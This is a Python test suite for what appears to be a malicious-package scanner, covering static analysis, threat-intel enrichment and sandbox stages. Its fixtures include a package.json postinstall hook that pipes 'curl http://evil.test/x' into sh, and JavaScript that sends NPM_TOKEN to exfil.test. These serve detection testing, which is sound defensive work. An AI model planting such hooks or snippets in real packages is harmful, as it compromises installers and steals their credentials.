# Copyright (c) 2026 Veritas Aequitas Holdings LLC. All rights reserved.
"""End-to-end pipeline tests over real package directories."""

from __future__ import annotations

from unsus.analyzers.base import AnalyzerOutput, BaseAnalyzer
from unsus.analyzers.metadata import MetadataAnalyzer
from unsus.core.constants import FindingType, RiskLevel, Severity
from unsus.core.exceptions import SandboxError
from unsus.models.package import PackageFiles
from unsus.models.scan import DynamicResult, NetworkAttempt
from unsus.sandbox.orchestrator import SandboxRun
from unsus.sandbox.translate import dynamic_findings
from unsus.scanner.pipeline import ScanPipeline
from unsus.sdk import build_pipeline
from unsus.threat_intel.cache import ReputationCache
from unsus.threat_intel.enricher import ThreatIntelEnricher
from unsus.threat_intel.urlhaus import FeedEntry

CURL_PIPE_SH = {
    "name": "evil-widget",
    "version": "0.0.1",
    "scripts": {"postinstall": "curl http://evil.test/x | sh"},
}

CLEAN = {"name": "tidy-adder", "version": "1.0.0"}


class ExplodingAnalyzer(BaseAnalyzer):
    @property
    def name(self) -> str:
        return "exploding"

    def run(self, package: PackageFiles) -> AnalyzerOutput:
        raise RuntimeError("boom")


class FakeSandbox:
    def __init__(self, run: SandboxRun | None = None, error: Exception | None = None) -> None:
        self._run = run
        self._error = error
        self.targets = []

    def run(self, package_dir):
        self.targets.append(package_dir)
        if self._error:
            raise self._error
        return self._run


async def _feed_with(*hosts: str) -> list[FeedEntry]:
    return [FeedEntry(url=f"http://{h}/", host=h) for h in hosts]


# ---------------------------------------------------------------------------
# Full static pipeline
# ---------------------------------------------------------------------------


class TestStaticPipeline:
    async def test_pipe_to_shell_install_is_critical(self, make_package, settings):
        root = make_package({"index.js": "module.exports = 1;"}, manifest=CURL_PIPE_SH)

        result = await build_pipeline(settings).scan_path(root)

        assert result.risk_level == RiskLevel.CRITICAL
        assert result.risk_score == 10.0
        assert result.analyzers_executed == ["ast", "entropy", "regex", "binary", "metadata"]
        assert {f.type for f in result.findings} >= {
            FindingType.INSTALL_SCRIPT,
            FindingType.EXEC,
            FindingType.NETWORK,
        }
        assert ("http://evil.test/x", "package.json:5") in [
            (i.value, i.context) for i in result.iocs
        ]
        assert result.errors == []
        assert result.package_name == "evil-widget"
        assert result.version == "0.0.1"

    async def test_clean_package_is_safe(self, make_package, settings):
        root = make_package(
            {"index.js": "module.exports = function add(a, b) { return a + b; };"},
            manifest=CLEAN,
        )
        result = await build_pipeline(settings).scan_path(root)
        assert result.risk_level == RiskLevel.SAFE
        assert result.findings == []
        assert result.summary

    async def test_source_behaviors_combine(self, make_package, settings):
        source = (
            'const https = require("https");\n'
            "const token = process.env.NPM_TOKEN;\n"
            'https.request({ hostname: "exfil.test", method: "POST" }).end(token);\n'
        )
        root = make_package({"lib/index.js": source}, manifest=CLEAN)

        result = await build_pipeline(settings).scan_path(root)

        types = [f.type for f in result.findings]
        assert FindingType.ENV_ACCESS_SENSITIVE in types
        assert FindingType.NETWORK in types
        assert ("domain", "exfil.test") in [(i.type, i.value) for i in result.iocs]
        assert result.risk_score > 3.0

    async def test_findings_are_deduplicated(self, package_files, settings):
        pkg = package_files(manifest=CURL_PIPE_SH)
        pipeline = ScanPipeline([MetadataAnalyzer(), MetadataAnalyzer()], settings=settings)
        result = await pipeline.scan(pkg)
        assert len(result.findings) == 3


# ---------------------------------------------------------------------------
# Failure isolation
# ---------------------------------------------------------------------------


class TestFailureIsolation:
    async def test_failing_analyzer_is_recorded(self, package_files, settings):
        pkg = package_files(manifest=CURL_PIPE_SH)
        pipeline = ScanPipeline([ExplodingAnalyzer(), MetadataAnalyzer()], settings=settings)

        result = await pipeline.scan(pkg)

        assert result.errors == ["exploding: boom"]
        assert result.analyzers_executed == ["metadata"]
        assert result.risk_level == RiskLevel.CRITICAL

    async def test_sandbox_error_drops_dynamic_section(self, package_files, settings):
        sandbox = FakeSandbox(error=SandboxError("docker not running"))
        pipeline = ScanPipeline([MetadataAnalyzer()], sandbox=sandbox, settings=settings)

        result = await pipeline.scan(package_files(manifest=CLEAN))

        assert result.dynamic is None
        assert result.errors == ["dynamic: docker not running"]
        assert result.analyzers_executed == ["metadata"]

    async def test_enrichment_error_keeps_iocs(self, package_files, settings, tmp_path):
        async def broken_feed() -> list[FeedEntry]:
            raise RuntimeError("feed down")

        enricher = ThreatIntelEnricher(ReputationCache(tmp_path / "db.json", 60, broken_feed))
        pkg = package_files({"a.js": 'fetch("http://evil.test/a");'}, manifest=CLEAN)
        pipeline = ScanPipeline(build_pipeline(settings).analyzers, enricher, settings=settings)

        result = await pipeline.scan(pkg)

        assert result.errors == ["threat_intel: feed down"]
        assert [i.value for i in result.iocs] == ["http://evil.test/a"]
        assert "threat_intel" not in result.analyzers_executed


# ---------------------------------------------------------------------------
# Enrichment and dynamic stages
# ---------------------------------------------------------------------------


class TestLaterStages:
    async def test_reputation_match_adds_critical_finding(self, package_files, settings, tmp_path):
        cache = ReputationCache(tmp_path / "db.json", 3600, lambda: _feed_with("evil.test"))
        pipeline = ScanPipeline(
            build_pipeline(settings).analyzers, ThreatIntelEnricher(cache), settings=settings
        )
        pkg = package_files({"a.js": '\nfetch("http://evil.test/a");'}, manifest=CLEAN)

        result = await pipeline.scan(pkg)

        intel = [f for f in result.findings if f.type == FindingType.THREAT_INTEL]
        assert [(f.severity, f.file, f.line) for f in intel] == [(Severity.CRITICAL, "a.js", 2)]
        assert result.iocs[0].threat_match.source == "URLhaus"
        assert result.analyzers_executed[-1] == "threat_intel"
        assert result.risk_score >= 6.0

    async def test_no_iocs_skips_enrichment(self, package_files, settings, tmp_path):
        calls = []

        async def feed() -> list[FeedEntry]:
            calls.append(1)
            return []

        enricher = ThreatIntelEnricher(ReputationCache(tmp_path / "db.json", 60, feed))
        pipeline = ScanPipeline([MetadataAnalyzer()], enricher, settings=settings)
        result = await pipeline.scan(package_files(manifest=CLEAN))
        assert calls == []
        assert "threat_intel" not in result.analyzers_executed

    async def test_dynamic_run_is_merged(self, package_files, settings):
        observed = DynamicResult(
            network_attempts=[NetworkAttempt(host="evil.test", port=443, raw="evil.test:443")],
            install_exit=0,
        )
        sandbox = FakeSandbox(SandboxRun(result=observed, findings=dynamic_findings(observed)))
        pipeline = ScanPipeline([MetadataAnalyzer()], sandbox=sandbox, settings=settings)
        pkg = package_files(manifest=CURL_PIPE_SH)

        result = await pipeline.scan(pkg)

        assert sandbox.targets == [pkg.root]
        assert result.dynamic == observed
        assert result.analyzers_executed == ["metadata", "dynamic"]
        assert FindingType.DYNAMIC_NETWORK in [f.type for f in result.findings]
